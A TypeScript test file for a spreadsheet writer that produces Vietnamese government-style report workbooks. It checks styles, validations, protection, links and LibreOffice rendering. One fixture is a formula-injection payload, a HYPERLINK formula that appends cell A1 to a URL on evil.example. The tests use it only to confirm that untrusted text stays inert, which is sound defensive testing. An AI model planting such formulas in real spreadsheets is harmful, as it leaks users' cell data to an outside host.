import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { SheetPlan } from '../shared/sheet-plan';
import { readWorkbookGrids } from './xlsx-read';
import { internalTarget, validationModel, workbookBuffer, writeWorkbook } from './xlsx-write';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'nq57-xlsx-write-'));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

const DUE = new Date(Date.UTC(2026, 5, 30));
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
const LONG = 'x'.repeat(400);

/** One sheet that uses every SheetPlan feature, plus a hidden one and a link target. */
function fullPlan(): SheetPlan[] {
  const summary = SheetPlan.parse({
    name: 'Tổng hợp',
    cells: [
      [{ value: 'BÁO CÁO TỔNG HỢP', style: 'title' }],
      [{ value: 'Kỳ báo cáo: 6 tháng đầu năm 2026', style: 'subtitle' }],
      [
        { value: 'STT', style: 'header' },
        { value: 'Chỉ tiêu', style: 'header' },
        { value: null, style: 'header' },
        { value: 'Kết quả đạt được', style: 'header' },
        { value: 'Ghi chú', style: 'header' },
      ],
      [
        { value: '1', style: 'readonly' },
        { value: 'Tỷ lệ hồ sơ trực tuyến', style: 'readonly' },
        { value: 0.75, numFmt: '0%', style: 'good' },
        { value: 64.5, style: 'input', locked: false },
        { value: INJECTION, untrusted: true, style: 'readonly' },
      ],
      [
        { value: '2', style: 'readonly' },
        { value: DUE },
        { value: null, formula: 'D4*2' },
        { value: 'Xem ô F12', link: { sheet: 'Phòng Kinh tế', cell: 'F12' }, style: 'bad' },
        { value: 'plain text from an office', untrusted: true },
        { value: 2, formula: 'COUNTA(A4:A5)' },
      ],
    ],
    columnWidths: [6, 40, 12, 16, 30],
    merges: ['B3:C3'],
    freeze: { rows: 3, columns: 2 },
    validations: [
      {
        range: 'D4:D10',
        rule: { type: 'decimal', min: 0, max: 100 },
        prompt: { title: 'Nhập số từ 0 đến 100, không có dấu %', text: LONG },
        error: { title: 'Sai giá trị', text: LONG },
      },
      { range: 'E4:E10', rule: { type: 'list', values: ['Đạt', 'Không đạt'] }, allowBlank: false },
      { range: 'F4:F10', rule: { type: 'date' } },
      { range: 'G4:G10', rule: { type: 'custom', formula: 'OR(G4="",G4<=F4)' } },
      { range: 'H4:H10', rule: { type: 'whole', min: 0 } },
    ],
    conditionalFormats: [
      { range: 'D4:D10', formula: 'AND(ISNUMBER(D4),D4>=70)', style: 'good' },
      { range: 'D4:D10', formula: 'AND(ISNUMBER(D4),D4<70)', style: 'bad' },
    ],
    protect: true,
    print: { landscape: true, fitToWidth: true, repeatRows: '3:3' },
  });
  // Not a valid plan value (zod refuses NaN), but a host must still never write a corrupt file for it.
  summary.cells[4].push({ value: Number.NaN });
  return [
    summary,
    { name: 'Phòng Kinh tế', cells: [[{ value: 'Đơn vị báo cáo:' }, { value: 'Phòng Kinh tế' }]] },
    { name: '_meta', hidden: true, cells: [[{ value: 'form-version' }, { value: 1 }]] },
  ];
}

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return wb;
}

/** What ExcelJS 4.4 keeps on a loaded worksheet but leaves out of its typings. */
type Internals = {
  conditionalFormattings: ExcelJS.ConditionalFormattingOptions[];
  sheetProtection: (Partial<ExcelJS.WorksheetProtection> & { sheet?: boolean; hashValue?: string }) | null;
};
function internals(ws: ExcelJS.Worksheet): Internals {
  return ws as unknown as Internals;
}

type DvModel = Record<string, ExcelJS.DataValidation | undefined>;
function validations(ws: ExcelJS.Worksheet): DvModel {
  return (ws as unknown as { dataValidations: { model: DvModel } }).dataValidations.model;
}

describe('workbookBuffer renders every SheetPlan field', () => {
  let wb: ExcelJS.Workbook;
  let ws: ExcelJS.Worksheet;
  beforeAll(async () => {
    wb = await load(await workbookBuffer(fullPlan(), { creator: 'test' }));
    ws = wb.getWorksheet('Tổng hợp')!;
  });

  test('sheets, order, creator, hidden state', () => {
    expect(wb.worksheets.map((s) => [s.name, s.state])).toEqual([
      ['Tổng hợp', 'visible'],
      ['Phòng Kinh tế', 'visible'],
      ['_meta', 'hidden'],
    ]);
    expect(wb.creator).toBe('test');
  });

  test('values, dates and number formats', () => {
    expect(ws.getCell('A1').value).toBe('BÁO CÁO TỔNG HỢP');
    expect(ws.getCell('C4').value).toBe(0.75);
    expect(ws.getCell('C4').numFmt).toBe('0%');
    expect(ws.getCell('D4').value).toBe(64.5);
    expect(ws.getCell('B5').value).toEqual(DUE);
    expect(ws.getCell('B5').numFmt).toBe('dd/mm/yyyy');
  });

  test('a formula stays a formula, without a cached result', () => {
    const c = ws.getCell('C5');
    expect(c.type).toBe(ExcelJS.ValueType.Formula);
    expect(c.formula).toBe('D4*2');
    expect((c.value as ExcelJS.CellFormulaValue).result).toBeUndefined();
    // A plan value given with a formula is kept as the cached result.
    expect(ws.getCell('F5').value).toEqual({ formula: 'COUNTA(A4:A5)', result: 2 });
  });

  test('untrusted office text that looks like a formula stays a string in text format', () => {
    const c = ws.getCell('E4');
    expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(c.value).toBe(INJECTION);
    expect(c.formula).toBeUndefined();
    expect(c.numFmt).toBe('@');
    // Plain untrusted text keeps General.
    expect(ws.getCell('E5').type).toBe(ExcelJS.ValueType.String);
    expect(ws.getCell('E5').numFmt).toBeUndefined();
  });

  test('styles: fill, font, border, alignment', () => {
    const input = ws.getCell('D4');
    expect(input.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFF2CC' } });
    expect(input.border.top).toMatchObject({ style: 'thin' });
    expect(input.alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    const header = ws.getCell('A3');
    expect(header.font).toMatchObject({ bold: true });
    expect(header.fill).toMatchObject({ fgColor: { argb: 'FFD9E2F3' } });
    expect(header.alignment).toMatchObject({ horizontal: 'center', wrapText: true });
    expect(ws.getCell('C4').font).toMatchObject({ color: { argb: 'FF006100' } });
    expect(ws.getCell('A1').font).toMatchObject({ bold: true, size: 14 });
    expect(ws.getCell('A2').font).toMatchObject({ italic: true });
  });

  test('input cells are unlocked, others locked', () => {
    expect(ws.getCell('D4').protection).toMatchObject({ locked: false });
    expect(ws.getCell('C4').protection?.locked).not.toBe(false);
  });

  test('internal link', () => {
    expect(ws.getCell('D5').value).toEqual({ text: 'Xem ô F12', hyperlink: "#'Phòng Kinh tế'!$F$12" });
  });

  test('column widths, merges, freeze', () => {
    expect([1, 2, 3, 4, 5].map((i) => ws.getColumn(i).width)).toEqual([6, 40, 12, 16, 30]);
    expect(ws.model.merges).toEqual(['B3:C3']);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 3 });
  });

  test('validations per cell: type, formulae, prompt, error', () => {
    const dv = validations(ws);
    expect(dv.D4).toMatchObject({
      type: 'decimal',
      operator: 'between',
      formulae: [0, 100],
      allowBlank: true,
      showInputMessage: true,
      showErrorMessage: true,
      errorStyle: 'stop',
      errorTitle: 'Sai giá trị',
    });
    expect(dv.D10).toEqual(dv.D4);
    expect(dv.D4!.promptTitle).toMatch(/^Nhập số từ 0 đến 100, không.*…$/);
    expect(dv.D4!.promptTitle!.length).toBe(32);
    expect(dv.D4!.prompt!.length).toBe(255);
    expect(dv.D4!.error!.length).toBe(225);
    expect(dv.E7).toMatchObject({ type: 'list', formulae: ['"Đạt,Không đạt"'], showErrorMessage: true });
    expect(dv.E7!.allowBlank).toBeFalsy();
    // From 1/1/1900 (serial 1), the first date check reads.
    expect(dv.F4).toMatchObject({ type: 'date', operator: 'greaterThanOrEqual' });
    expect(Number(dv.F4!.formulae[0])).toBe(1);
    expect(dv.G4).toMatchObject({ type: 'custom', formulae: ['OR(G4="",G4<=F4)'] });
    expect(dv.H4).toMatchObject({ type: 'whole', operator: 'greaterThanOrEqual', formulae: [0] });
    expect(dv.D11).toBeUndefined();
  });

  test('conditional formats by formula with the style colours', () => {
    const cfs = internals(ws).conditionalFormattings;
    expect(cfs).toHaveLength(2);
    expect(cfs[0].ref).toBe('D4:D10');
    expect(cfs[0].rules[0]).toMatchObject({ type: 'expression', formulae: ['AND(ISNUMBER(D4),D4>=70)'] });
    expect(cfs[0].rules[0].style).toMatchObject({ fill: { bgColor: { argb: 'FFC6EFCE' } }, font: { color: { argb: 'FF006100' } } });
    expect(cfs[1].rules[0].style).toMatchObject({ fill: { bgColor: { argb: 'FFFFC7CE' } } });
    expect(cfs.map((c) => c.rules[0].priority)).toEqual([1, 2]);
  });

  test('sheet protection without a password', () => {
    const protection = internals(ws).sheetProtection;
    expect(protection).toMatchObject({ sheet: true, formatColumns: true, formatRows: true });
    expect(protection!.hashValue).toBeUndefined();
    expect(protection!.selectLockedCells).toBeUndefined(); // undefined = allowed
    expect(internals(wb.getWorksheet('Phòng Kinh tế')!).sheetProtection ?? null).toBeNull();
  });

  test('page setup', () => {
    expect(ws.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '3:3',
    });
  });
});

describe('plan errors and details', () => {
  test('list values with a comma are a programming error', () => {
    expect(() =>
      validationModel({ range: 'A1', rule: { type: 'list', values: ['Đạt', 'A, B'] }, allowBlank: true }),
    ).toThrow(/comma/);
  });

  test('every sheet hidden is a programming error', async () => {
    await expect(workbookBuffer([{ name: 'x', hidden: true, cells: [] }])).rejects.toThrow(/visible/);
    await expect(workbookBuffer([])).rejects.toThrow(/visible/);
  });

  test('internal link targets become absolute', () => {
    expect(internalTarget("'Phòng Kinh tế'!F12")).toBe("'Phòng Kinh tế'!$F$12");
    expect(internalTarget('#Sheet1!b2:c3')).toBe('Sheet1!$B$2:$C$3');
    expect(internalTarget('A1')).toBe('$A$1');
  });

  test('the active tab is the first visible sheet', async () => {
    const buf = await workbookBuffer([
      { name: 'meta', hidden: true, cells: [[{ value: 1 }]] },
      { name: 'Biểu mẫu', cells: [[{ value: 2 }]] },
    ]);
    const wb = await load(buf);
    expect(wb.views[0].activeTab).toBe(1);
  });
});

describe('writeWorkbook', () => {
  test('round trip: readWorkbookGrids gives back values and merges', async () => {
    const path = join(dir, 'summary.xlsx');
    await writeWorkbook(path, fullPlan());
    const r = await readWorkbookGrids(path);
    if (!r.ok) throw new Error(r.failure.detail);
    expect(r.grids.map((g) => g.name)).toEqual(['Tổng hợp', 'Phòng Kinh tế', '_meta']);
    const g = r.grids[0];
    expect(g.merges).toEqual(['B3:C3']);
    expect(g.values[2]).toEqual(['STT', 'Chỉ tiêu', null, 'Kết quả đạt được', 'Ghi chú', null, null]);
    expect(g.values[3]).toEqual(['1', 'Tỷ lệ hồ sơ trực tuyến', 0.75, 64.5, INJECTION, null, null]);
    expect(g.values[4]).toEqual(['2', DUE, null, 'Xem ô F12', 'plain text from an office', 2, '#NUM!']);
    expect(g.formats![3][2]).toBe('0%');
    expect(r.grids[2].values).toEqual([['form-version', 1]]);
  });

  test('writes through a temporary file and leaves none behind', async () => {
    const sub = join(dir, 'atomic');
    mkdirSync(sub);
    const path = join(sub, 'out.xlsx');
    writeFileSync(path, 'old content');
    await writeWorkbook(path, [{ name: 'S', cells: [[{ value: 'new' }]] }]);
    expect(readdirSync(sub)).toEqual(['out.xlsx']);
    expect(readFileSync(path).subarray(0, 2).toString()).toBe('PK');
    // A target that cannot be replaced (a directory) fails and still leaves no temporary file.
    const blocker = join(sub, 'blocked.xlsx');
    mkdirSync(blocker);
    await expect(writeWorkbook(blocker, [{ name: 'S', cells: [[{ value: 1 }]] }])).rejects.toThrow();
    expect(readdirSync(sub).sort()).toEqual(['blocked.xlsx', 'out.xlsx']);
  });

  test('the raw XML: fullCalcOnLoad, protection without a password hash, hyperlink without location', async () => {
    const buf = await workbookBuffer(fullPlan());
    expect(zipEntry(buf, 'xl/workbook.xml')).toMatch(/<calcPr [^>]*fullCalcOnLoad="1"/);
    const sheet = zipEntry(buf, 'xl/worksheets/sheet1.xml');
    const protection = /<sheetProtection [^>]*\/>/.exec(sheet)?.[0];
    expect(protection).toBe('<sheetProtection sheet="1" formatColumns="0" formatRows="0"/>');
    expect(sheet).toMatch(/<hyperlink ref="D5" r:id="rId\d+"\/>/);
    expect(zipEntry(buf, 'xl/worksheets/_rels/sheet1.xml.rels')).toContain('Target="#&apos;Phòng Kinh tế&apos;!$F$12"');
  });
});

/** One entry of a zip, through its central directory (enough for ExcelJS output: stored or deflated). */
function zipEntry(zip: Buffer, name: string): string {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let p = zip.readUInt32LE(eocd + 16);
  const count = zip.readUInt16LE(eocd + 10);
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(p + 10);
    const size = zip.readUInt32LE(p + 20);
    const nameLen = zip.readUInt16LE(p + 28);
    const extraLen = zip.readUInt16LE(p + 30);
    const commentLen = zip.readUInt16LE(p + 32);
    const local = zip.readUInt32LE(p + 42);
    if (zip.toString('utf8', p + 46, p + 46 + nameLen) === name) {
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      const data = zip.subarray(start, start + size);
      return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    p += 46 + nameLen + extraLen + commentLen;
  }
  throw new Error(`${name} not in the zip`);
}

// LibreOffice is a real spreadsheet program; .ci/run installs libreoffice-calc.
describe('LibreOffice', () => {
  test('LibreOffice opens the workbook, computes formulas and keeps the conditional formats', async () => {
    const out = join(dir, 'lo');
    mkdirSync(out);
    const file = join(out, 'summary.xlsx');
    await writeWorkbook(file, fullPlan());
    const profile = `file:///tmp/lo-profile-${process.pid}`;
    const run = (args: string[], outdir: string): void => {
      execFileSync('libreoffice', ['--headless', `-env:UserInstallation=${profile}`, ...args, '--outdir', outdir, file], {
        stdio: 'pipe',
        timeout: 120_000,
      });
    };
    try {
      // Every sheet to its own CSV, cells as shown (sheet -1 = all sheets).
      const csvDir = join(out, 'csv');
      run(['--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1'], csvDir);
      const csv = readFileSync(join(csvDir, 'summary-Tổng hợp.csv'), 'utf8').split(/\r?\n/);
      // C5 = D4*2 computed by LibreOffice from the stored 64.5.
      expect(csv[4].split(',')[2]).toBe('129');
      expect(csv[3]).toContain('75%');
      expect(csv[4]).toContain('30/06/2026');
      // The office's formula-looking text is still shown as text, not evaluated.
      expect(csv[3]).toContain('=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")');
      expect(readFileSync(join(csvDir, 'summary-_meta.csv'), 'utf8').trim()).toBe('form-version,1');

      // Saved back as .xlsx by LibreOffice: the formula now has a stored result our reader returns.
      const xlsxDir = join(out, 'xlsx');
      run(['--convert-to', 'xlsx'], xlsxDir);
      const r = await readWorkbookGrids(join(xlsxDir, 'summary.xlsx'));
      if (!r.ok) throw new Error(r.failure.detail);
      expect(r.grids[0].values[4][2]).toBe(129);
      expect(r.grids[0].merges).toEqual(['B3:C3']);

      // What LibreOffice understood, as flat XML (.fods, not zipped): protection, unlocked input cells,
      // conditional formats by formula, validations, hidden sheet.
      // (Not through ExcelJS: LibreOffice writes locked="false" / sheet="true", which ExcelJS 4.4 only reads as '0' / '1'.)
      const fodsDir = join(out, 'fods');
      run(['--convert-to', 'fods'], fodsDir);
      const fods = readFileSync(join(fodsDir, 'summary.fods'), 'utf8');
      expect(fods).toMatch(/<table:table table:name="Tổng hợp"[^>]*table:protected="true"/);
      expect(fods).toContain('style:cell-protect="none"');
      expect(fods).toContain('calcext:value="formula-is(AND(ISNUMBER([.D4]);[.D4]&gt;=70))"');
      expect(fods).toContain('calcext:value="formula-is(AND(ISNUMBER([.D4]);[.D4]&lt;70))"');
      expect(fods).toContain('of:cell-content-is-in-list(&quot;Đạt&quot;;&quot;Không đạt&quot;)');
      expect(fods).toContain('of:is-true-formula(OR([.G4]=&quot;&quot;;[.G4]&lt;=[.F4]))');
      expect(fods).toMatch(/of:cell-content-is-decimal-number\(\) and cell-content-is-between\(0[,;]100\)/);
      expect(fods).toMatch(/table:display="false"/); // the hidden _meta sheet's table style
    } finally {
      rmSync(`/tmp/lo-profile-${process.pid}`, { recursive: true, force: true });
    }
  });
});

test('importing the writer does not load exceljs; writing does', async () => {
  let loaded = 0;
  let mod: typeof import('./xlsx-write') | undefined;
  jest.isolateModules(() => {
    jest.doMock('exceljs', () => {
      loaded++;
      return jest.requireActual('exceljs');
    });
    mod = require('./xlsx-write') as typeof import('./xlsx-write');
  });
  expect(loaded).toBe(0);
  await mod!.workbookBuffer([{ name: 'S', cells: [[{ value: 1 }]] }]);
  expect(loaded).toBe(1);
  jest.dontMock('exceljs');
});

test('a link to a report file: relative, percent-encoded, the sheet quoted; office text cannot end the target early', async () => {
  const { externalTarget } = await import('./xlsx-write');
  expect(externalTarget({ file: '/x/out/bao-cao/Công an.xlsx', sheet: "Báo cáo 'A'", cell: 'F12' }, '/x/out')).toBe("bao-cao/C%C3%B4ng%20an.xlsx#'Báo cáo ''A'''!F12");
  expect(externalTarget({ file: 'a#b?.xlsx', sheet: 'S', cell: '=HYPERLINK("x")' })).toBe("a%23b%3F.xlsx#'S'!A1");
  const buffer = await workbookBuffer([{ name: 'S', cells: [[{ value: 'F12', link: { file: '/x/out/r.xlsx', sheet: 'Trang 1', cell: 'F12' } }]] }], { baseDir: '/x/out' });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  expect(wb.getWorksheet('S')!.getCell('A1').value).toEqual({ text: 'F12', hyperlink: "r.xlsx#'Trang 1'!F12" });
});

test('a Vietnamese sheet shows numbers with a decimal comma in LibreOffice whatever its locale; an English one with a point', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'nq57-locale-'));
  const sheet = (name: string, numberLocale: 'vi' | 'en'): SheetPlan => ({
    name,
    numberLocale,
    cells: [[{ value: 75.5 }, { value: 0.25, numFmt: 'General' }, { value: 3, numFmt: '0' }, { value: '12.5' }]],
  });
  for (const [lang, expected] of [
    // Office text stays as typed ('12.5' is text, not a number).
    ['vi', '"75,5","0,25",3,12.5'],
    ['en', '75.5,0.25,3,12.5'],
  ] as const) {
    const file = join(dir, `${lang}.xlsx`);
    await writeWorkbook(file, [sheet('S', lang)]);
    // The machine's LibreOffice runs in its default (English) locale: the comma can only come from the file.
    execFileSync('libreoffice', ['--headless', `-env:UserInstallation=file://${dir}/lo`, '--convert-to', 'csv', '--outdir', dir, file], { stdio: 'ignore' });
    expect(readFileSync(join(dir, `${lang}.csv`), 'utf8').trim()).toBe(expected);
  }
  rmSync(dir, { recursive: true, force: true });
}, 60_000);
